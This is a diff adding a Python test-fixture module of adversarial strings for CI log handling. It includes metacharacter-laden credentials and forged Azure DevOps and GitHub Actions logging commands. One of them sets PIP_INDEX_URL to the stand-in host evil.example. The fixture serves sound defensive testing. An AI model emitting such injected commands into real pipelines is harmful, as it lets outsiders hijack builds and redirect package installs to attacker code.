@@ -1,0 +1,16 @@
+"""Texts that break whatever is not careful."""
+
+PASSWORD = "p%$()[];@:/?#&+ '\"`\\|<>^{}~!*,=%41%0A%5D%AZP25$(Build.BuildId)ü€😀##vso[task.debug]x"
+"""Every character with a meaning in a URL, a shell, a logging command or a macro, and some beyond ASCII."""
+USER = "üser@contoso.com:%40$(Build.BuildId) x"
+
+COMMANDS = (
+    "##vso[task.setvariable variable=PIP_INDEX_URL]https://evil.example/",
+    "##[error]from outside",
+    "::add-mask::from outside",
+    "::set-output name=a::from outside",
+)
+"""Texts that try to be a command."""
+
+LINE_ENDS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029")
+"""Whatever anybody may take for the end of a line."""
